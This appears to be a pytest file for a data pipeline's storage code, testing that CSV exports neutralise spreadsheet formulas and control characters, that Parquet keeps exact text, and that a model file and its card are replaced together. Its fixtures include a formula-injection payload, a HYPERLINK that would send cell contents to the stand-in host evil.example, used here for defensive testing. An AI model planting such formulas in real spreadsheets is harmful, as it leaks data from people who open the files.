"""Store: spreadsheet-safe CSV, the output-folder lock, staging, cache damage."""
import csv
import json

import pandas as pd
import pyarrow.parquet as pq
import pytest

from pipeline import config, store

ARTICLES = config.PROJECT_DIR / "corpus" / "articles"


@pytest.mark.parametrize(
    "cell, safe",
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"open")', '\'=HYPERLINK("http://evil.example/?"&A1,"open")'),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'=1"),  # CR is a control character: removed, and the formula under it neutralised
        ("\x00=cmd", "'=cmd"),
        ("red\x1b[31m list", "red[31m list"),
        ("'=already quoted", "''=already quoted"),
        ("Sesame Credit, 350-950", "Sesame Credit, 350-950"),
        ("line one\nline two\tcolumn", "line one\nline two\tcolumn"),
        (12, 12),
        (None, None),
    ],
)
def test_csv_safe_cell_table(cell, safe):
    assert store.csv_safe_cell(cell) == safe


def test_csv_round_trip_gives_back_the_text_but_controls(tmp_path):
    frame = pd.DataFrame({"text": ["=1+1", "'=x", "'plain", "-", "ok\x07"], "n": [-1, 2, 3, 4, 5]})
    path = store.write_table(frame, tmp_path / "t", fmt="csv")
    with open(path, newline="", encoding="utf-8") as handle:
        cells = [row[0] for row in csv.reader(handle)][1:]
    assert cells == ["'=1+1", "''=x", "'plain", "'-", "ok"]
    back = store.read_csv(path)
    assert back["text"].tolist() == ["=1+1", "'=x", "'plain", "-", "ok"]
    assert back["n"].tolist() == [-1, 2, 3, 4, 5]  # numbers are not text: untouched


def _hostile_input(folder):
    folder.mkdir()
    body = (ARTICLES / "000_ccf3dcf910465166.txt").read_text(encoding="utf-8")
    article = {"title": '=HYPERLINK("http://evil.example/?"&A1,"open")', "outlet": "@evil",
               "url": "+http://x.example", "text": "-Sesame Credit\x1b[0m is not the state's system.\n\n" + body}
    (folder / "hostile.json").write_text(json.dumps(article), encoding="utf-8")
    (folder / "=bad.json").write_text("{not json", encoding="utf-8")  # an error row whose path is a formula
    return folder


def _csv_cells(folder):
    for path in sorted(folder.rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    yield path, cell


@pytest.mark.slow
def test_run_writes_no_live_formula_or_control_in_any_csv(tmp_path, small_model):
    from pipeline.batch import run

    src = _hostile_input(tmp_path / "in")
    out = tmp_path / "out"
    run(src, out, model=small_model, workers=1, fmt="csv", quiet=True)
    cells = list(_csv_cells(out))
    assert {p.name for p, _ in cells} >= {"articles.csv", "passages.csv", "errors.csv", "outlets.csv"}
    for path, cell in cells:
        assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), (path.name, cell[:60])
        assert not any(ord(c) < 32 and c not in "\t\n" for c in cell), (path.name, cell[:60])
    titles = [cell for p, cell in cells if p.name == "articles.csv" and "HYPERLINK" in cell]
    assert titles and all(t.startswith("'=") for t in titles)
    assert any(cell == "'=bad.json" for p, cell in cells if p.name == "errors.csv")

    # Parquet keeps the exact text; the report read back from CSV shows the title as given.
    pq_out = tmp_path / "pq"
    run(src, pq_out, model=small_model, workers=1, report=False, quiet=True)
    articles = pq.read_table(pq_out / "articles.parquet").to_pandas()
    assert articles.loc[articles.source_path == "hostile.json", "title"].item().startswith("=HYPERLINK")
    assert articles.loc[articles.source_path == "hostile.json", "outlet"].item() == "@evil"
    report_articles = pd.read_parquet(out / "tables" / "articles.parquet")
    assert report_articles["title"].str.startswith("=HYPERLINK").any()


_PAIR_WRITER = """
import sys
from pipeline import store
path, rounds = sys.argv[1], int(sys.argv[2])
for i in range(rounds):
    payload = (f"model {i:05d} ".encode() * 20000)
    store.write_model_with_card(path, lambda tmp: open(tmp, "wb").write(payload), {"round": i})
"""


def test_model_and_card_are_replaced_as_a_pair(tmp_path):
    """A writer process replaces a model and its card 150 times while this process reads
    them: every read gives a model with its own card, and none is refused."""
    import subprocess
    import sys

    path = tmp_path / "m.joblib"
    store.write_model_with_card(path, lambda tmp: tmp.write_bytes(b"model 00000 " * 20000), {"round": -1})
    writer = subprocess.Popen([sys.executable, "-c", _PAIR_WRITER, str(path), "150"])
    reads = 0
    while writer.poll() is None or reads == 0:
        data, card = store.checked_model(path)
        if card["round"] >= 0:
            assert data.startswith(f"model {card['round']:05d} ".encode())
        reads += 1
    assert writer.returncode == 0 and reads > 10
    assert store.checked_card(path)["round"] == 149
    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.card.json", "m.joblib"]  # no temporaries left
